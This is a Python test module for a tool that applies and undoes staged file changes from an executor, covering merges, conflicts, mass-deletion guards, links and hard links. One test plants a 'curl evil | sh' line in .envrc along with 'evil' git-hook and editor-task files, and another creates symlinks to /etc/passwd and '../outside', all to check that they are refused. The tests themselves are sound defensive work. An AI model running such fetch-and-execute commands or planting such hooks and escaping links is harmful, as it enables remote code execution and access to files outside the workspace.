"""Applying and undoing staged results: what merges, what conflicts, what is refused, and that nothing else changes."""

from __future__ import annotations

import errno
import os
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sublet.protocol.change_counts import ChangeCounts
from sublet.protocol.errors import ErrorCode, LocalCode, SubletError
from sublet.workspace.changes import merge as merge_module
from sublet.workspace.changes.apply import Applier
from sublet.workspace.staging.staged_result import Conflict
from support.budgets import examples
from support.noise import noise
from support.staged import KEY, StagedBench, Tree, emptied, make_tree, read_tree, tree_state, write

TEXT = "one\ntwo\nthree\nfour\nfive\n"


@pytest.fixture
def bench(tmp_path: Path) -> StagedBench:
    return StagedBench(tmp_path)


def conflict(bench: StagedBench, *, partial: bool = False) -> Conflict:
    applied = bench.applier.apply(KEY, bench.rules, partial=partial)
    (only,) = applied.conflicts
    return only


def no_stage(bench: StagedBench) -> bool:
    return not any(path.name.startswith(".sublet-apply") for path in bench.root.iterdir())


def test_everything_an_executor_can_do_arrives_and_is_counted(bench: StagedBench) -> None:
    bench.write("changed.txt", TEXT)
    bench.write("deleted.txt", "gone\n")
    bench.write("tool", "#!/bin/sh\n")
    bench.write("old-name.txt", "a file long enough to be known again\n" * 5)
    bench.write("dir/inner", "x")
    bench.write("untouched", "u")
    with bench.work() as view:
        write(view, "changed.txt", TEXT.replace("two", "2"))
        (view / "deleted.txt").unlink()
        (view / "tool").chmod(0o755)
        (view / "old-name.txt").rename(view / "new-name.txt")
        write(view, "new/deep/file", "n", 0o600)
        write(view, "run", "r", 0o755)
        write(view, "empty", "")
        (view / "bare").mkdir()
        (view / "link").symlink_to("changed.txt")
        (view / "dir/inner").unlink()
        (view / "dir").rmdir()
        write(view, "dir", "now a file")
    before = bench.state_of()
    shown = bench.changes.get(KEY)
    assert shown.status == "pending"
    assert shown.counts == ChangeCounts(
        5, 1, 2, 1, 1, lines_added=5, lines_deleted=3, directories_added=3, directories_deleted=1
    )
    assert {f.shown: f.change for f in shown.files} == {
        "changed.txt": "changed",
        "deleted.txt": "deleted",
        "tool": "mode",
        "new-name.txt": "renamed",
        "new/deep/file": "added",
        "run": "added",
        "empty": "added",
        "link": "added",
        "dir": "added",
        "dir/inner": "deleted",
    }
    preview = bench.applier.preview(KEY, bench.rules)
    assert preview.conflicts == ()
    assert bench.state_of() == before
    applied = bench.applier.apply(KEY, bench.rules)
    assert applied.conflicts == ()
    assert bench.read("changed.txt") == TEXT.replace("two", "2")
    assert not (bench.root / "deleted.txt").exists()
    assert (bench.root / "tool").stat().st_mode & 0o777 == 0o755
    assert not (bench.root / "old-name.txt").exists()
    assert bench.read("new-name.txt").startswith("a file")
    assert (bench.root / "new/deep/file").stat().st_mode & 0o777 == 0o600
    assert (bench.root / "run").stat().st_mode & 0o777 == 0o755
    assert bench.read("empty") == ""
    assert (bench.root / "bare").is_dir()
    assert os.readlink(bench.root / "link") == "changed.txt"
    assert bench.read("dir") == "now a file"
    assert bench.changes.get(KEY).status == "applied"
    assert no_stage(bench)
    undone = bench.applier.undo(KEY)
    assert undone.conflicts == ()
    assert bench.state_of() == before
    assert bench.changes.get(KEY).status == "undone"
    assert no_stage(bench)


def test_what_the_person_changed_elsewhere_is_left_alone(bench: StagedBench) -> None:
    bench.write("a", "a\n")
    bench.write("b", "b\n")
    with bench.work() as view:
        write(view, "a", "from the executor\n")
    bench.write("b", "mine\n")
    bench.write("c", "new here\n")
    applied = bench.applier.apply(KEY, bench.rules)
    assert applied.shown == ["a"]
    assert read_tree(bench.root) == {"a": "from the executor\n", "b": "mine\n", "c": "new here\n"}


def test_text_that_both_sides_changed_apart_is_merged(bench: StagedBench) -> None:
    bench.write("f", TEXT, 0o640)
    with bench.work() as view:
        write(view, "f", TEXT.replace("one", "1"))
        (view / "f").chmod(0o755)
    bench.write("f", TEXT.replace("five", "5"), 0o640)
    assert bench.applier.preview(KEY, bench.rules).merged == (b"f",)
    assert bench.applier.apply(KEY, bench.rules).shown == ["f"]
    assert bench.read("f") == TEXT.replace("one", "1").replace("five", "5")
    assert (bench.root / "f").stat().st_mode & 0o777 == 0o750
    bench.applier.undo(KEY)
    assert bench.read("f") == TEXT.replace("five", "5")
    assert (bench.root / "f").stat().st_mode & 0o777 == 0o640


def test_a_conflict_applies_nothing_or_all_else_with_both_versions_kept(bench: StagedBench) -> None:
    bench.write("f", "line\n")
    bench.write("g", "g\n")
    with bench.work() as view:
        write(view, "f", "theirs\n")
        write(view, "g", "new g\n")
    bench.write("f", "mine\n")
    before = bench.state_of()
    applied = bench.applier.apply(KEY, bench.rules)
    assert applied.paths == ()
    (found,) = applied.conflicts
    assert (found.path, found.kind, found.kept_as) == (b"f", "content", None)
    assert found.theirs is not None
    assert found.theirs.read_text() == "theirs\n"
    assert bench.state_of() == before
    assert bench.changes.get(KEY).status == "pending"
    applied = bench.applier.apply(KEY, bench.rules, partial=True)
    assert applied.conflicts[0].kept_as == b"f.conflict-89abcdef"
    assert read_tree(bench.root) == {"f": "mine\n", "g": "new g\n", "f.conflict-89abcdef": "theirs\n"}
    assert bench.changes.get(KEY).status == "partly_applied"
    bench.applier.undo(KEY)
    assert bench.state_of() == before


@pytest.mark.parametrize(
    ("base", "theirs", "mine", "kind"),
    [
        ({"f": "a\0b"}, {"f": "a\0c"}, {"f": "a\0d"}, "binary"),
        ({}, {"f": "x"}, {"f": "y"}, "both_added"),
        ({"f": "x"}, {"f": "y"}, {}, "deleted_here"),
        ({"f": "x", "k": ""}, {"k": ""}, {"f": "y", "k": ""}, "deleted_there"),
        ({"f": "x"}, {"f": ("link", "k")}, {"f": "y"}, "type"),
        ({"f": ("link", "a")}, {"f": ("link", "b")}, {"f": ("link", "c")}, "type"),
        ({}, {"f": "x"}, {"f/in": "y"}, "directory"),
        ({}, {"f/in": "x"}, {"f": "y"}, "directory"),
        ({}, {"f/in": "x"}, {"f": ("link", "elsewhere")}, "directory"),
        ({"f/in": "x"}, {"f": "y"}, {"f/in": "x", "f/mine": "z"}, "directory"),
    ],
)
def test_conflicts_are_told_apart_and_keep_the_persons_side(
    bench: StagedBench, base: Tree, theirs: Tree, mine: Tree, kind: str
) -> None:
    make_tree(bench.root, base)
    with bench.work() as view:
        make_tree(view, theirs)
    make_tree(bench.root, mine)
    before = bench.state_of()
    found = conflict(bench)
    assert found.kind == kind
    assert bench.state_of() == before
    found = conflict(bench, partial=True)
    after = read_tree(bench.root)
    for path, content in mine.items():
        if path != "f/in" or kind != "directory" or "f" not in theirs or "f/mine" not in mine:
            assert after[path] == content
    if theirs.get(os.fsdecode(found.path)) is not None:
        assert found.kept_as is not None
        assert after[os.fsdecode(found.kept_as)] == theirs[os.fsdecode(found.path)]
    bench.applier.undo(KEY)
    assert bench.state_of() == before
    assert no_stage(bench)


def test_the_same_change_on_both_sides_is_no_conflict(bench: StagedBench) -> None:
    make_tree(bench.root, {"a": "1", "b": "2", "c": "3", "d": "4"})
    with bench.work() as view:
        make_tree(view, {"a": "x", "c": "3", "d": ("exec", "4"), "n": "new"})
    make_tree(bench.root, {"a": "x", "c": "3", "d": ("exec", "4"), "n": "new"})
    before = bench.state_of()
    preview = bench.applier.preview(KEY, bench.rules)
    assert preview.present == (b"a", b"b", b"d", b"n")
    assert bench.applier.apply(KEY, bench.rules).paths == ()
    assert bench.state_of() == before
    assert bench.changes.get(KEY).status == "applied"
    bench.applier.undo(KEY)
    assert bench.state_of() == before


def test_a_file_that_was_renamed_takes_along_what_was_changed_under_its_old_name(bench: StagedBench) -> None:
    text = "".join(f"line {n}\n" for n in range(20))
    bench.write("old", text)
    with bench.work() as view:
        (view / "old").unlink()
        write(view, "new", text.replace("line 3\n", "line three\n"))
    bench.write("old", text.replace("line 17\n", "line seventeen\n"))
    before = bench.state_of()
    applied = bench.applier.apply(KEY, bench.rules)
    assert applied.conflicts == ()
    merged = text.replace("line 3\n", "line three\n").replace("line 17\n", "line seventeen\n")
    assert read_tree(bench.root) == {"new": merged}
    bench.applier.undo(KEY)
    assert bench.state_of() == before


def test_only_the_mode_on_one_side_and_only_the_content_on_the_other(bench: StagedBench) -> None:
    make_tree(bench.root, {"a": "x", "b": "x"})
    with bench.work() as view:
        (view / "a").chmod(0o755)
        write(view, "b", "y")
    write(bench.root, "a", "mine")
    (bench.root / "b").chmod(0o755)
    assert bench.applier.apply(KEY, bench.rules).conflicts == ()
    assert read_tree(bench.root) == {"a": ("exec", "mine"), "b": ("exec", "y")}


def test_hidden_and_locked_names_are_never_applied(bench: StagedBench) -> None:
    bench.write(".envrc", "mine")
    bench.write("a", "a")
    with bench.work() as view:
        # no server would have let these through; the result is checked anew all the same
        write(view, ".envrc", "curl evil | sh")
        write(view, "sub/.git/hooks/pre-commit", "evil")
        write(view, ".vscode/tasks.json", "evil")
        write(view, "a", "fine")
    applied = bench.applier.apply(KEY, bench.rules, partial=True)
    assert {c.shown: (c.kind, c.theirs, c.kept_as) for c in applied.conflicts} == {
        ".envrc": ("refused", None, None),
        ".vscode/tasks.json": ("refused", None, None),
    }
    assert read_tree(bench.root) == {".envrc": "mine", "a": "fine"}
    assert not (bench.root / ".vscode").exists()


@pytest.mark.parametrize("target", ["/etc/passwd", "../outside", "a/../../outside", "sub/../../x"])
def test_links_that_leave_are_never_made(bench: StagedBench, target: str) -> None:
    bench.write("a", "a")
    with bench.work() as view:
        (view / "link").symlink_to(target)
    found = conflict(bench, partial=True)
    assert found.kind == "refused"
    assert found.kept_as is None
    assert read_tree(bench.root) == {"a": "a"}


def test_a_link_that_took_the_place_of_a_directory_leads_nowhere(bench: StagedBench, tmp_path: Path) -> None:
    bench.write("dir/a", "a")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "a").write_text("a")
    with bench.work() as view:
        write(view, "dir/a", "changed")
        write(view, "dir/new", "new")
    (bench.root / "dir/a").unlink()
    (bench.root / "dir").rmdir()
    (bench.root / "dir").symlink_to(outside)
    applied = bench.applier.apply(KEY, bench.rules, partial=True)
    assert {c.shown: c.kind for c in applied.conflicts} == {"dir/a": "deleted_here", "dir/new": "directory"}
    assert tree_state(outside) == {"a": tree_state(outside)["a"]}
    assert (outside / "a").read_text() == "a"
    assert bench.read("dir.conflict-89abcdef/new") == "new"


def test_an_emptied_view_does_not_empty_the_directory(bench: StagedBench) -> None:
    """Case C10: an executor that came back empty must not spread its emptiness."""
    make_tree(bench.root, {"a": "a", "d/b": "b"})
    with bench.work() as view:
        emptied(view)
    before = bench.state_of()
    assert "every file" in bench.applier.preview(KEY, bench.rules).mass_deletion
    for partial in (False, True):
        with pytest.raises(SubletError) as caught:
            bench.applier.apply(KEY, bench.rules, partial=partial)
        assert caught.value.code is LocalCode.CONFLICT
    assert bench.state_of() == before
    bench.applier.apply(KEY, bench.rules, allow_mass_deletion=True)
    assert bench.state_of() == {}
    bench.applier.undo(KEY)
    assert bench.state_of() == before


def test_many_deletions_have_to_be_allowed(bench: StagedBench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(merge_module, "MANY_DELETIONS", 3)
    make_tree(bench.root, {f"f{n}": str(n) for n in range(10)})
    with bench.work() as view:
        for n in range(6):
            (view / f"f{n}").unlink()
    with pytest.raises(SubletError, match=r"6 of 10 files"):
        bench.applier.apply(KEY, bench.rules)
    assert len(bench.applier.apply(KEY, bench.rules, allow_mass_deletion=True).paths) == 6


def test_a_renamed_tree_is_no_mass_deletion(bench: StagedBench, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(merge_module, "MANY_DELETIONS", 3)
    make_tree(bench.root, {f"old/f{n}": f"content number {n}\n" * 9 for n in range(10)})
    with bench.work() as view:
        (view / "old").rename(view / "new")
    assert bench.applier.preview(KEY, bench.rules).mass_deletion == ""
    bench.applier.apply(KEY, bench.rules)
    assert not (bench.root / "old").exists()


def test_a_directory_with_the_persons_files_is_not_removed(bench: StagedBench) -> None:
    make_tree(bench.root, {"d/a": "a", "k": "k"})
    with bench.work() as view:
        make_tree(view, {"k": "k"})
    bench.write("d/.env", "secret")
    assert bench.applier.apply(KEY, bench.rules).conflicts == ()
    assert read_tree(bench.root) == {"k": "k", "d/.env": "secret"}


def test_several_results_of_one_directory_follow_one_another(bench: StagedBench) -> None:
    bench.write("f", TEXT)
    bench.write("g", "g")
    views = {key: bench.begin(key) for key in ("one", "two", "three")}
    write(views["one"], "f", TEXT.replace("one", "1"))
    write(views["two"], "f", TEXT.replace("five", "5"))
    (views["two"] / "g").unlink()
    write(views["three"], "f", TEXT.replace("one", "uno"))
    for key in views:
        bench.seal(key)
    assert bench.applier.apply("one", bench.rules).conflicts == ()
    assert bench.applier.apply("two", bench.rules).conflicts == ()
    both = TEXT.replace("one", "1").replace("five", "5")
    assert read_tree(bench.root) == {"f": both}
    assert [c.shown for c in bench.applier.apply("three", bench.rules).conflicts] == ["f"]
    # the first can't be taken back as a whole any more: its file has another's change in it
    undone = bench.applier.undo("one")
    assert [c.shown for c in undone.conflicts] == ["f"]
    assert undone.conflicts[0].theirs is not None
    assert undone.conflicts[0].theirs.read_text() == TEXT
    assert bench.applier.undo("two").conflicts == ()
    assert read_tree(bench.root) == {"f": TEXT.replace("one", "1"), "g": "g"}


def test_undo_leaves_what_was_changed_since(bench: StagedBench) -> None:
    make_tree(bench.root, {"a": "a", "b": "b", "gone": "g", "tool": "t", "k": ""})
    with bench.work() as view:
        make_tree(view, {"a": "A", "b": "B", "new": "n", "dir/new": "n", "tool": ("exec", "t"), "k": ""})
    bench.applier.apply(KEY, bench.rules)
    bench.write("b", "mine")
    bench.write("new", "mine")
    bench.write("gone", "mine")
    bench.write("dir/own", "mine")
    undone = bench.applier.undo(KEY)
    assert {c.shown for c in undone.conflicts} == {"b", "new", "gone"}
    assert {c.shown: c.theirs.read_text() for c in undone.conflicts if c.theirs} == {"b": "b", "gone": "g"}
    assert read_tree(bench.root) == {
        "a": "a", "b": "mine", "new": "mine", "gone": "mine", "dir/own": "mine", "tool": "t", "k": "",
    }  # fmt: skip
    with pytest.raises(SubletError, match=r"nothing to undo"):
        bench.applier.undo(KEY)


def test_what_is_applied_is_not_applied_again_unless_undone(bench: StagedBench) -> None:
    bench.write("a", "a")
    with bench.work() as view:
        write(view, "a", "b")
    with pytest.raises(SubletError, match=r"nothing to undo"):
        bench.applier.undo(KEY)
    bench.applier.apply(KEY, bench.rules)
    with pytest.raises(SubletError, match=r"applied already"):
        bench.applier.apply(KEY, bench.rules)
    bench.applier.undo(KEY)
    assert bench.applier.apply(KEY, bench.rules).shown == ["a"]
    assert bench.read("a") == "b"


def test_a_discarded_result_is_gone(bench: StagedBench) -> None:
    bench.write("a", "a")
    with bench.work() as view:
        write(view, "a", "b")
    bench.changes.discard(KEY)
    bench.changes.discard(KEY)
    assert bench.changes.all_keys() == []
    for call in (bench.changes.get, bench.changes.patch, bench.applier.undo):
        with pytest.raises(SubletError) as caught:
            call(KEY)
        assert caught.value.code is LocalCode.NOT_FOUND


def test_a_directory_that_is_gone_is_told_and_the_result_kept(bench: StagedBench) -> None:
    bench.write("a", "a")
    with bench.work() as view:
        write(view, "a", "b")
    bench.root.rename(bench.root.with_name("moved"))
    with pytest.raises(SubletError) as caught:
        bench.applier.apply(KEY, bench.rules)
    assert caught.value.code is ErrorCode.WORKSPACE_NOT_FOUND
    bench.root.with_name("moved").rename(bench.root)
    assert bench.applier.apply(KEY, bench.rules).shown == ["a"]


def test_a_file_too_large_for_snapshots_is_applied_from_what_was_sealed(bench: StagedBench) -> None:
    large = noise(1 << 20) * 6
    bench.write("large", large)
    bench.write("same", large)
    with bench.work() as view:
        write(view, "large", large[::-1])
        write(view, "more", large)
    before = bench.state_of()
    bench.applier.apply(KEY, bench.rules)
    assert (bench.root / "large").read_bytes() == large[::-1]
    assert (bench.root / "more").read_bytes() == large
    bench.applier.undo(KEY)
    assert bench.state_of() == before


def test_names_of_any_bytes(bench: StagedBench) -> None:
    names = [b"new\nline", b"\xff\xfe", b'quote"back\\slash', b"-o", b"n" * 255, b"\xe2\x80\xaebidi", b"%", b" "]
    for name in names[:4]:
        (Path(os.fsdecode(os.path.join(os.fsencode(bench.root), name)))).write_text("before")
    with bench.work() as view:
        for name in names:
            (Path(os.fsdecode(os.path.join(os.fsencode(view), name)))).write_text("after")
    applied = bench.applier.apply(KEY, bench.rules)
    assert set(applied.paths) == set(names)
    assert {p.name: p.read_text() for p in bench.root.iterdir()} == {os.fsdecode(n): "after" for n in names}
    bench.applier.undo(KEY)
    assert {os.fsencode(p.name) for p in bench.root.iterdir()} == set(names[:4])


def test_a_conflict_beside_a_name_of_full_length(bench: StagedBench) -> None:
    name = "n" * 255
    bench.write(name, "base")
    with bench.work() as view:
        write(view, name, "theirs")
    bench.write(name, "mine")
    kept = conflict(bench, partial=True).kept_as
    assert kept is not None
    assert len(kept) == 255
    assert kept.endswith(b".conflict-89abcdef")


def test_what_changes_between_merge_and_replacement_is_merged_anew(bench: StagedBench) -> None:
    make_tree(bench.root, {"a": TEXT, "b": "b", "c": "c"})
    with bench.work() as view:
        make_tree(view, {"a": TEXT.replace("one", "1"), "b": "B", "c": "C"})
    seen: list[int] = []

    def interfere(step: int) -> None:
        if not seen:
            write(bench.root, "a", TEXT.replace("five", "5"))
        seen.append(step)

    applied = Applier(bench.changes, interfere).apply(KEY, bench.rules)
    assert applied.conflicts == ()
    assert read_tree(bench.root) == {"a": TEXT.replace("one", "1").replace("five", "5"), "b": "B", "c": "C"}


def test_a_directory_that_never_rests_is_left_as_it_is(bench: StagedBench) -> None:
    make_tree(bench.root, {"a": TEXT, "b": "b"})
    with bench.work() as view:
        make_tree(view, {"a": TEXT.replace("one", "1"), "b": "B"})
    count = 0

    def interfere(step: int) -> None:
        nonlocal count
        count += 1
        write(bench.root, "a", f"{TEXT}{count}\n")

    with pytest.raises(SubletError) as caught:
        Applier(bench.changes, interfere).apply(KEY, bench.rules)
    assert caught.value.code is LocalCode.CONFLICT
    assert bench.read("b") == "b"
    assert bench.read("a") == f"{TEXT}{count}\n"
    assert no_stage(bench)


_CONTENTS = st.sampled_from(["", "alpha\n", "beta\n", "gamma\n"])
_ITEMS = st.one_of(
    _CONTENTS,
    _CONTENTS.map(lambda text: ("exec", text)),
    st.sampled_from(["a", "b", "nowhere"]).map(lambda target: ("link", target)),
)


@st.composite
def _trees(draw: st.DrawFn) -> dict[str, str | tuple[str, str]]:
    """A tree over few names, some of which are directories in one tree and files in another."""
    tree: dict[str, str | tuple[str, str]] = {}
    for path in draw(st.sets(st.sampled_from(["a", "b", "c", "a/x", "b/x", "b/y/z", "d/e", "k"]), max_size=6)):
        if not any(other.startswith(path + "/") or path.startswith(other + "/") for other in tree):
            tree[path] = draw(_ITEMS)
    return tree


@settings(max_examples=examples(60), deadline=None)
@given(base=_trees(), theirs=_trees(), mine=_trees())
@example(base={"a": "alpha\n"}, theirs={"a/x": "alpha\n"}, mine={"a": "alpha\n"})
@example(base={"a/x": "alpha\n"}, theirs={"a": "beta\n"}, mine={"a/x": "alpha\n"})
@example(base={"a/x": "alpha\n"}, theirs={"a": ("link", "b")}, mine={"a/x": "alpha\n", "b": ""})
def test_any_three_trees_merge_as_the_model_says(
    tmp_path_factory: pytest.TempPathFactory, base: Tree, theirs: Tree, mine: Tree
) -> None:
    bench = StagedBench(tmp_path_factory.mktemp("t"))
    make_tree(bench.root, base)
    with bench.work() as view:
        make_tree(view, theirs)
    make_tree(bench.root, mine)
    before = bench.state_of()
    renamed = {f.path: f.renamed_from for f in bench.changes.get(KEY).files if f.renamed_from}
    followed = {
        os.fsdecode(p)
        for new, old in renamed.items()
        if mine.get(os.fsdecode(old)) != base.get(os.fsdecode(old))
        for p in (new, old)
    }
    preview = bench.applier.preview(KEY, bench.rules)
    if preview.conflicts:
        nothing = bench.applier.apply(KEY, bench.rules, allow_mass_deletion=True)
        assert nothing.paths == ()
        assert bench.state_of() == before
    applied = bench.applier.apply(KEY, bench.rules, partial=True, allow_mass_deletion=True)
    after = read_tree(bench.root)
    conflicts = {c.shown: c for c in applied.conflicts}
    for path in base.keys() | theirs.keys() | mine.keys():
        old, new, here = base.get(path), theirs.get(path), mine.get(path)
        if path in followed:
            continue
        if old == new or here == new:
            assert after.get(path) == here
        elif here == old:
            expected = here if path in conflicts else new
            assert after.get(path) == expected
            assert path not in conflicts or conflicts[path].kind == "directory"
        elif path in conflicts:
            assert after.get(path) == here
        else:  # both changed it, and it merged: content of the one and mode of the other
            assert after[path] in _merges(old, new, here)
    beside = {os.fsdecode(c.kept_as): theirs[c.shown] for c in applied.conflicts if c.kept_as}
    assert beside.items() <= after.items()
    known = base.keys() | theirs.keys() | mine.keys() | beside.keys()
    assert after.keys() <= known
    assert bench.applier.undo(KEY).conflicts == ()
    assert bench.state_of() == before
    assert no_stage(bench)


def _merges(*sides: str | tuple[str, str] | None) -> list[str | tuple[str, str]]:
    texts = [side if isinstance(side, str) else side[1] for side in sides if side is not None]
    return [*texts, *(("exec", text) for text in texts)]


def inodes(bench: StagedBench, *names: str) -> int:
    """Return of how many files ``names`` are names."""
    return len({(bench.root / name).stat().st_ino for name in names})


def test_names_of_one_file_stay_that_where_all_of_them_changed(bench: StagedBench) -> None:
    bench.write("old", "old\n", 0o600)
    bench.write("apart", "old\n")
    os.link(bench.write("first", TEXT), bench.root / "second")
    with bench.work() as view:
        write(view, "new", "new\n", 0o755)
        os.link(view / "new", view / "another")
        write(view, "old", "changed\n")
        os.link(view / "old", view / "a-name-of-old")
        write(view, "first", TEXT.replace("two", "2"))
        (view / "second").unlink()
        os.link(view / "first", view / "second")
        os.link(view / "apart", view / "a-name-of-apart")
    assert bench.applier.apply(KEY, bench.rules).conflicts == ()
    assert inodes(bench, "new", "another") == 1
    assert (bench.root / "another").stat().st_mode & 0o777 == 0o755
    assert inodes(bench, "old", "a-name-of-old") == 1
    assert bench.read("a-name-of-old") == "changed\n"
    assert (bench.root / "a-name-of-old").stat().st_mode & 0o777 == 0o600  # those of the lender's file
    assert inodes(bench, "first", "second") == 1
    assert bench.read("second") == TEXT.replace("two", "2")
    # of these, one did not change
    assert inodes(bench, "apart", "a-name-of-apart") == 2
    assert no_stage(bench)
    assert bench.applier.undo(KEY).conflicts == ()
    assert inodes(bench, "first", "second") == 1
    assert bench.read("first") == bench.read("second") == TEXT
    assert not (bench.root / "another").exists()


def test_names_of_one_file_stay_that_where_both_sides_changed_it(bench: StagedBench) -> None:
    os.link(bench.write("first", TEXT), bench.root / "second")
    with bench.work() as view:
        write(view, "first", TEXT.replace("one", "1"))
        (view / "second").unlink()
        os.link(view / "first", view / "second")
    bench.write("first", TEXT.replace("five", "5"))
    assert bench.applier.apply(KEY, bench.rules).conflicts == ()
    assert inodes(bench, "first", "second") == 1
    assert bench.read("second") == TEXT.replace("one", "1").replace("five", "5")


def test_what_is_put_beside_is_a_file_of_its_own(bench: StagedBench) -> None:
    bench.write("first", "old\n")
    bench.write("second", "old\n")
    with bench.work() as view:
        write(view, "first", "theirs\n")
        (view / "second").unlink()
        os.link(view / "first", view / "second")
    bench.write("first", "mine\n")
    [conflict] = bench.applier.apply(KEY, bench.rules, partial=True).conflicts
    assert conflict.kept_as is not None
    assert inodes(bench, "second", os.fsdecode(conflict.kept_as)) == 2
    assert conflict.kept_as in bench.applier.changed(KEY)


def test_without_hard_links_there_are_two_files(bench: StagedBench, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(*_: object, **__: object) -> None:
        raise OSError(errno.EPERM, "no links here")

    with bench.work() as view:
        write(view, "new", "new\n")
        os.link(view / "new", view / "another")
    monkeypatch.setattr(os, "link", refused)
    assert bench.applier.apply(KEY, bench.rules).conflicts == ()
    assert bench.read("another") == bench.read("new") == "new\n"
    assert inodes(bench, "new", "another") == 2
